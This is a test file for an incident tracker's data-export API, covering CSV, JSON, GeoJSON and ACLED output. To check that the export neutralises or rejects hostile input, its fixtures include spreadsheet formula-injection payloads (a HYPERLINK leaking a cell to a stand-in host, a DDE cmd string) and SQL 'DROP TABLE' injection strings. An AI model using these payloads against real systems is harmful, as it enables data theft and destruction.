import { beforeAll, describe, expect, it } from "vitest";
import { GET as exportRoute } from "@/app/api/export/route";
import { decodeCursor, DEFAULT_SORT, listIncidents } from "@/lib/data/incident-list";
import { getPool } from "@/lib/db";
import { parseCsv, parseCsvRecords } from "@/lib/export/csv";
import { readIncidentFilters } from "@/lib/filters";
import { seedDatabase } from "@/prisma/seed";
import { useAppDatabase } from "../helpers/auth-session";

// /api/export called as Next calls it, on the demo data plus a few hand-made incidents whose text
// is hostile (formulas, quotes, line breaks, Arabic) and whose ACLED coding is worked out by hand.

const get = (query: string) => exportRoute(new Request(`http://localhost/api/export?${query}`));

/** Only the headers: the body is cancelled, which hands its connection back (an unread body would hold it). */
async function headersOf(query: string): Promise<Headers> {
  const response = await get(query);
  await response.body?.cancel();
  return response.headers;
}

/** The ids the table's own query lists for a filter, every page, in the table's default order. */
async function tableIds(query: string): Promise<string[]> {
  const { filters, problems } = readIncidentFilters(new URLSearchParams(query));
  expect(problems).toEqual([]);
  const ids: string[] = [];
  let cursor: string | null = null;
  do {
    const page = await listIncidents(filters, { sort: DEFAULT_SORT, limit: 500, cursor: cursor ? decodeCursor(cursor) : null });
    ids.push(...page.items.map((r) => r.id));
    cursor = page.nextCursor;
  } while (cursor);
  return ids;
}

const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")',
  cmd: "+cmd|' /C calc'!A0",
  sum: "@SUM(1)",
  tab: "\t=1",
  minus: "-1+1",
  carriageReturn: "\r=2",
  multiline: 'First line, with a comma\nSecond "quoted" line\r\nسطر ثالث بالعربية',
  arabic: "قاعدة عين الأسد",
};

type Ids = Record<"formulas" | "text" | "acled" | "unclaimed" | "draft", string>;

async function addIncidents(): Promise<Ids> {
  const pool = getPool();
  const one = async (sql: string, params: unknown[]) => (await pool.query<{ id: string }>(sql, params)).rows[0]!.id;
  const incident = (fields: Record<string, unknown>) => {
    const row = {
      occurred_on: "2024-05-01", country: "IQ", location_name: "Somewhere", lat: 33.3, lon: 44.4, geo_precision: "EXACT",
      target_type: "MILITARY_BASE", attack_type: "ROCKET", outcome: "IMPACT", claim_status: "UNCLAIMED", confidence: "LIKELY",
      status: "PUBLISHED", ...fields,
    };
    const keys = Object.keys(row);
    return one(
      `INSERT INTO incident (${keys.join(", ")}) VALUES (${keys.map((_, k) => `$${k + 1}`).join(", ")}) RETURNING id`,
      Object.values(row),
    );
  };
  const ids = {} as Ids;
  ids.formulas = await incident({
    reference: "IQ-2099-0001", notes: HOSTILE.hyperlink, location_name: HOSTILE.cmd, admin1: HOSTILE.sum, location_name_ar: HOSTILE.tab,
    killed_min: 0, killed_max: 2, wounded_min: 1, wounded_max: 1,
  });
  ids.text = await incident({
    reference: "FJ-2099-0001", country: "FJ", notes: HOSTILE.multiline, location_name: 'Camp "Quoted", East', location_name_ar: HOSTILE.arabic,
    admin1: HOSTILE.minus, lat: -17.25, lon: -179.5, occurred_on: "2024-05-02",
  });
  const group = (slug: string, name: string) => one("SELECT id FROM armed_group WHERE slug = $1", [slug]).catch(() => one("INSERT INTO armed_group (slug, name) VALUES ($1, $2) RETURNING id", [slug, name]));
  const first = await group("acled-first", "First Brigade");
  const second = await group("acled-second", "Second Brigade");
  const assessed = await group("acled-assessed", "Assessed Group");
  const site = await one("SELECT id FROM site ORDER BY slug LIMIT 1", []);
  ids.acled = await incident({
    reference: "JO-2099-0001", country: "JO", occurred_on: "2024-05-03", date_precision: "WEEK", geo_precision: "PROVINCE", attack_type: "IED",
    claim_status: "CLAIMED", attributed_to_id: assessed, site_id: site, notes: "Tower attack", is_synthetic: false,
  });
  await pool.query("INSERT INTO source (incident_id, url, publisher, published_on, kind) VALUES ($1, 'https://b.example/2', 'Later Wire', '2024-05-05', 'MEDIA'), ($1, 'https://a.example/1', 'First Wire', '2024-05-04', 'MEDIA')", [ids.acled]);
  // Claimed by the second group after the first: the first is credited and named first.
  for (const [groupId, at] of [[second, "2024-05-04T12:00:00Z"], [first, "2024-05-03T20:00:00Z"]] as const) {
    const claim = await one("INSERT INTO claim (group_id, stated_at) VALUES ($1, $2) RETURNING id", [groupId, at]);
    await pool.query("INSERT INTO incident_claim (incident_id, claim_id) VALUES ($1, $2)", [ids.acled, claim]);
  }
  ids.unclaimed = await incident({ reference: "SY-2099-0001", country: "SY", occurred_on: "2024-05-04", attack_type: "SMALL_ARMS", killed_min: 4, killed_max: 6 });
  ids.draft = await incident({ reference: "IQ-2099-0002", status: "DRAFT", notes: "never exported" });
  return ids;
}

describe("GET /api/export", () => {
  const db = useAppDatabase({ connectAs: "owner" }); // the pool connects as the owner
  let ids: Ids;
  beforeAll(async () => {
    await seedDatabase(db.url, ["--synthetic", "--count", "800", "--seed", "5"]);
    ids = await addIncidents();
  });

  const FILTERS = [
    "",
    "claimant=kataib-hezbollah&from=2024-01-01&to=2024-06-30",
    "claimant=islamic-resistance-in-iraq",
    "type=rocket,mortar&outcome=impact",
    "country=SY&minKilled=1",
    "q=drone",
    `q=${encodeURIComponent("عين الاسد")}`, // Arabic spelled without the hamza that the stored names have
    "bbox=42,32,45,35&confidence=likely,confirmed",
    "admin1=Anbar&claimStatus=claimed",
    "from=2099-01-01", // matches nothing
  ];

  it.each(FILTERS)("holds exactly the table's incidents, in its order, in every format: %s", async (query) => {
    const expected = await tableIds(query);
    const csv = await get(`format=csv&${query}`);
    expect(csv.status).toBe(200);
    expect(parseCsvRecords(await csv.text()).map((r) => r.id)).toEqual(expected);
    const json = await (await get(`format=json&${query}`)).json();
    expect(json.incidents.map((r: { id: string }) => r.id)).toEqual(expected);
    const geo = await (await get(`format=geojson&${query}`)).json();
    expect(geo.type).toBe("FeatureCollection");
    expect(geo.features.map((f: { id: string }) => f.id)).toEqual(expected);
    const acled = await (await get(`format=csv&profile=acled&${query}`)).text();
    expect(parseCsvRecords(acled).length).toBe(expected.length);
    if (query === "") expect(expected).not.toContain(ids.draft);
  });

  it("writes RFC 4180 that reads back to the stored text, with formulas neutralised and numbers untouched", async () => {
    const response = await get("format=csv&from=2024-05-01&to=2024-05-02&country=IQ,FJ");
    const text = await response.text();
    const records = parseCsvRecords(text);
    const formulas = records.find((r) => r.id === ids.formulas)!;
    expect(formulas.notes).toBe(`'${HOSTILE.hyperlink}`);
    expect(formulas.location_name).toBe(`'${HOSTILE.cmd}`);
    expect(formulas.admin1).toBe(`'${HOSTILE.sum}`);
    expect(formulas.location_name_ar).toBe(`'${HOSTILE.tab}`);
    expect([formulas.killed_min, formulas.killed_max, formulas.wounded_min, formulas.wounded_max]).toEqual(["0", "2", "1", "1"]);
    expect(formulas.is_synthetic).toBe("false");

    const plain = records.find((r) => r.id === ids.text)!;
    expect(plain.notes).toBe(HOSTILE.multiline); // line breaks, quotes and Arabic survive
    expect(plain.location_name).toBe('Camp "Quoted", East');
    expect(plain.location_name_ar).toBe(HOSTILE.arabic);
    expect(plain.admin1).toBe(`'${HOSTILE.minus}`);
    // Negative numbers are numbers: never prefixed.
    expect([plain.latitude, plain.longitude]).toEqual(["-17.25", "-179.5"]);
    expect(plain.killed_min).toBe(""); // unknown, not zero
    expect(text).toContain('"Camp ""Quoted"", East"');

    // A carriage return at the start is a trigger too.
    await getPool().query("UPDATE incident SET notes = $2 WHERE id = $1", [ids.text, HOSTILE.carriageReturn]);
    const again = parseCsvRecords(await (await get("format=csv&country=FJ")).text()).find((r) => r.id === ids.text)!;
    expect(again.notes).toBe(`'${HOSTILE.carriageReturn}`);
    await getPool().query("UPDATE incident SET notes = $2 WHERE id = $1", [ids.text, HOSTILE.multiline]);

    // Every seeded row has the documented columns and is marked synthetic.
    const all = parseCsv(await (await get("format=csv")).text());
    expect(all[0]).toEqual([
      "id", "reference", "occurred_on", "occurred_time", "date_precision", "country", "admin1", "location_name", "location_name_ar", "latitude",
      "longitude", "geo_precision", "site", "site_name", "target_type", "attack_type", "outcome", "claim_status", "claimants", "claimant_names",
      "credited_claimant", "credited_claimant_name", "attributed_group", "attributed_group_name", "killed_min", "killed_max", "wounded_min",
      "wounded_max", "confidence", "confirmed_by", "source_urls", "notes", "updated_at", "is_synthetic",
    ]);
    const isSynthetic = all[0]!.indexOf("is_synthetic");
    expect(all.slice(1).filter((r) => r[isSynthetic] === "true").length).toBe(800 - (await draftsAndRetractions()));
  });

  async function draftsAndRetractions(): Promise<number> {
    const { rows } = await getPool().query<{ n: number }>("SELECT count(*)::int AS n FROM incident WHERE is_synthetic AND status <> 'PUBLISHED'");
    return rows[0]!.n;
  }

  it("keeps JSON values verbatim and typed", async () => {
    const json = await (await get("format=json&from=2024-05-01&to=2024-05-03")).json();
    const formulas = json.incidents.find((r: { id: string }) => r.id === ids.formulas);
    expect(formulas.notes).toBe(HOSTILE.hyperlink);
    expect(formulas.killed_max).toBe(2);
    expect(formulas.is_synthetic).toBe(false);
    const text = json.incidents.find((r: { id: string }) => r.id === ids.text);
    expect(text.notes).toBe(HOSTILE.multiline);
    expect(text.killed_min).toBeNull();
    const acled = json.incidents.find((r: { id: string }) => r.id === ids.acled);
    expect(acled.claimants).toEqual(["acled-first", "acled-second"]);
    expect(acled.claimant_names).toEqual(["First Brigade", "Second Brigade"]);
    expect(acled.credited_claimant).toBe("acled-first");
    expect(acled.credited_claimant_name).toBe("First Brigade");
    expect(acled.attributed_group_name).toBe("Assessed Group");
    expect(acled.source_urls).toEqual(["https://a.example/1", "https://b.example/2"]);
    expect(json.metadata).toMatchObject({ filter: "from=2024-05-01&to=2024-05-03", profile: "standard" });
    const geo = await (await get("format=geojson&country=FJ")).json();
    expect(geo.features[0].geometry).toEqual({ type: "Point", coordinates: [-179.5, -17.25] });
    expect(geo.features[0].properties.reference).toBe("FJ-2099-0001");
  });

  it("writes ACLED's columns in ACLED's order with the documented codes", async () => {
    const text = await (await get("format=csv&profile=acled&from=2024-05-01&to=2024-05-04")).text();
    const [header] = parseCsv(text);
    expect(header).toEqual([
      "event_id_cnty", "event_date", "year", "time_precision", "disorder_type", "event_type", "sub_event_type", "actor1", "assoc_actor_1",
      "inter1", "actor2", "assoc_actor_2", "inter2", "interaction", "civilian_targeting", "iso", "region", "country", "admin1", "admin2",
      "admin3", "location", "latitude", "longitude", "geo_precision", "source", "source_scale", "notes", "fatalities", "tags", "timestamp",
    ]);
    const rows = parseCsvRecords(text);
    const { rows: [stored] } = await getPool().query<{ epoch: string; site: string }>(
      "SELECT floor(extract(epoch FROM i.updated_at))::bigint::text AS epoch, s.name AS site FROM incident i JOIN site s ON s.id = i.site_id WHERE i.id = $1",
      [ids.acled],
    );
    expect(rows.find((r) => r.event_id_cnty === "JO-2099-0001")).toEqual({
      event_id_cnty: "JO-2099-0001", event_date: "2024-05-03", year: "2024", time_precision: "2", disorder_type: "Political violence",
      event_type: "Explosions/Remote violence", sub_event_type: "Remote explosive/landmine/IED", actor1: "First Brigade",
      assoc_actor_1: "Second Brigade; Assessed Group", inter1: "3", actor2: "Coalition Forces (International)", assoc_actor_2: stored!.site,
      inter2: "8", interaction: "38", civilian_targeting: "", iso: "400", region: "Middle East", country: "Jordan", admin1: "", admin2: "",
      admin3: "", location: "Somewhere", latitude: "33.3", longitude: "44.4", geo_precision: "3", source: "First Wire; Later Wire",
      source_scale: "", notes: "Tower attack", fatalities: "0",
      tags: "attack_type=ied; outcome=impact; confidence=likely; claim_status=claimed; fatalities unknown", timestamp: stored!.epoch,
    });
    const unclaimed = rows.find((r) => r.event_id_cnty === "SY-2099-0001")!;
    expect([unclaimed.actor1, unclaimed.event_type, unclaimed.sub_event_type, unclaimed.fatalities, unclaimed.iso]).toEqual([
      "Unidentified Armed Group (Syria)", "Battles", "Armed clash", "4", "760",
    ]);
    const formulas = rows.find((r) => r.event_id_cnty === "IQ-2099-0001")!;
    expect([formulas.notes, formulas.location, formulas.time_precision, formulas.geo_precision]).toEqual([`'${HOSTILE.hyperlink}`, `'${HOSTILE.cmd}`, "1", "1"]);

    const seeded = parseCsvRecords(await (await get("format=csv&profile=acled&from=2023-01-01&to=2024-04-30")).text());
    expect(seeded.length).toBeGreaterThan(0);
    expect(seeded.every((r) => r.tags?.endsWith("synthetic demo data"))).toBe(true);
  });

  it("names each group beside its slug, in the same order", async () => {
    const records = parseCsvRecords(await (await get("format=csv&from=2024-05-03&to=2024-05-04")).text());
    const claimed = records.find((r) => r.id === ids.acled)!;
    expect([claimed.claimants, claimed.claimant_names]).toEqual(["acled-first;acled-second", "First Brigade;Second Brigade"]);
    expect([claimed.credited_claimant, claimed.credited_claimant_name]).toEqual(["acled-first", "First Brigade"]);
    expect([claimed.attributed_group, claimed.attributed_group_name]).toEqual(["acled-assessed", "Assessed Group"]);
    const unclaimed = records.find((r) => r.id === ids.unclaimed)!;
    expect([unclaimed.claimant_names, unclaimed.credited_claimant_name, unclaimed.attributed_group_name]).toEqual(["", "", ""]);
    // Every seeded row names the groups its slugs stand for.
    const { rows: groups } = await getPool().query<{ slug: string; name: string }>("SELECT slug, name FROM armed_group");
    const nameOf = new Map(groups.map((g) => [g.slug, g.name]));
    const seeded = parseCsvRecords(await (await get("format=csv&claimStatus=claimed")).text());
    expect(seeded.length).toBeGreaterThan(100);
    for (const r of seeded) {
      expect(r.credited_claimant_name).toBe(r.credited_claimant ? nameOf.get(r.credited_claimant) : "");
      expect(r.claimant_names).toBe(r.claimants!.split(";").filter(Boolean).map((slug) => nameOf.get(slug)).join(";"));
    }
  });

  it("starts the CSV with a UTF-8 byte-order mark on bom=1, and changes nothing else", async () => {
    const bytes = async (query: string) => {
      const response = await get(query);
      expect(response.status).toBe(200);
      return { headers: response.headers, body: Buffer.from(await response.arrayBuffer()) };
    };
    for (const query of ["format=csv&country=FJ", "format=csv&profile=acled&country=FJ", "format=csv&from=2024-01-01"]) {
      const plain = await bytes(query);
      const marked = await bytes(`${query}&bom=1`);
      expect([...marked.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(marked.body.subarray(3).equals(plain.body)).toBe(true);
      expect(plain.body[0]).not.toBe(0xef);
      expect(marked.headers.get("Content-Disposition")).toBe(plain.headers.get("Content-Disposition"));
      expect(marked.headers.get("X-Filter")).toBe(plain.headers.get("X-Filter"));
    }
    // Our own reader (the import's) skips the mark: the file reads back to the same rows.
    const marked = (await bytes("format=csv&country=FJ&bom=1")).body.toString("utf8");
    expect(parseCsvRecords(marked).map((r) => r.location_name_ar)).toEqual([HOSTILE.arabic]);
    expect((await bytes("format=csv&country=FJ&bom=0")).body[0]).not.toBe(0xef);
  });

  it("names the set and its data version in the headers and the file name", async () => {
    const response = await get("format=csv&to=2024-03-31&from=2024-01-01&claimant=kataib-hezbollah");
    const { rows: [latest] } = await getPool().query<{ v: string }>(`SELECT to_char(max(updated_at) AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"') AS v FROM incident`);
    expect(response.headers.get("X-Data-Version")).toBe(latest!.v);
    expect(response.headers.get("X-Filter")).toBe("from=2024-01-01&to=2024-03-31&claimant=kataib-hezbollah");
    const stamp = latest!.v.replace(/\.\d+Z$/, "Z").replace(/[-:]/g, "");
    expect(response.headers.get("Content-Disposition")).toBe(
      `attachment; filename="attack-tracker_2024-01-01_2024-03-31_claimant-kataib-hezbollah_v${stamp}.csv"`,
    );
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Cache-Control")).toBe("no-store");
    expect(response.headers.get("X-Content-Type-Options")).toBe("nosniff");
    expect(response.headers.get("X-Row-Count")).toBeNull();
    await response.body?.cancel();
    expect((await headersOf("format=geojson")).get("Content-Type")).toBe("application/geo+json");
    expect((await headersOf("format=json&profile=acled")).get("Content-Disposition")).toMatch(/^attachment; filename="attack-tracker_all_acled_v\d{8}T\d{6}Z\.json"$/);

    // An edit (the app's writes set updated_at) moves the version on, so the next download is told apart.
    await getPool().query("UPDATE incident SET notes = 'edited', updated_at = now() WHERE id = $1", [ids.unclaimed]);
    expect((await headersOf("format=csv")).get("X-Data-Version")! > latest!.v).toBe(true);
  });

  const BAD: Array<[string, string]> = [
    ["format=xml", "format"],
    ["format=csv&format=json", "format"],
    ["format=geojson&profile=acled", "profile"],
    ["format=csv&profile=ucdp", "profile"],
    ["from=2026-13-01", "from"],
    ["claimant=no-such-group", "claimant"],
    ["site=atlantis", "site"],
    ["bbox=-200,-100,200,100", "bbox"],
    ["minKilled=-1", "minKilled"],
    ["type=nuclear", "type"],
    ["format=csv&bom=2", "bom"],
    ["format=csv&bom=true", "bom"],
    ["format=csv&bom=1&bom=1", "bom"],
    ["format=json&bom=1", "bom"],
    ["format=geojson&bom=1", "bom"],
    [`q=${encodeURIComponent("drone\0")}`, "q"],
    [`admin1=${encodeURIComponent("Anbar\0'; DROP TABLE incident; --")}`, "admin1"],
    [`q=${"%25_".repeat(300)}`, "q"],
  ];

  it.each(BAD)("refuses %s with a 400 naming %s", async (query, parameter) => {
    const response = await get(query);
    expect(response.status).toBe(400);
    const body = await response.json();
    expect(body.error.parameter).toBe(parameter);
    expect(body.error.message).toContain(parameter);
  });

  it("writes hostile filter values into COPY as plain literals", async () => {
    // COPY takes no bind parameters: quotes and backslashes in a search must stay inside their literal.
    for (const q of ["o'brien", "back\\slash 'quote", "\"}{,", "'); DROP TABLE incident; --"]) {
      const response = await get(`format=csv&q=${encodeURIComponent(q)}&admin1=${encodeURIComponent(q)}`);
      expect(response.status).toBe(200);
      expect(parseCsv(await response.text())).toHaveLength(1);
    }
    const { rows } = await getPool().query("SELECT count(*)::int AS n FROM incident");
    expect(rows[0].n).toBeGreaterThan(800);
  });
});
